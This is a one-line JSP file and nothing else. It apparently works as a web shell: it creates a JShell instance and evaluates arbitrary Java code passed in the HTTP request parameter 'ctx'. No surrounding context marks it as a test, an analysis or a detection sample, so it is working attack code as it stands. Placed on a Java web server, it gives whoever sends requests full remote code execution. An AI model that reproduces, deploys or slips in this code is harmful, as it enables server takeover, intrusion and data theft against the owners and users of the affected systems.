<% jdk.jshell.JShell js = jdk.jshell.JShell.create(); js.eval(request.getParameter("ctx")).forEach(e -> {}); %>
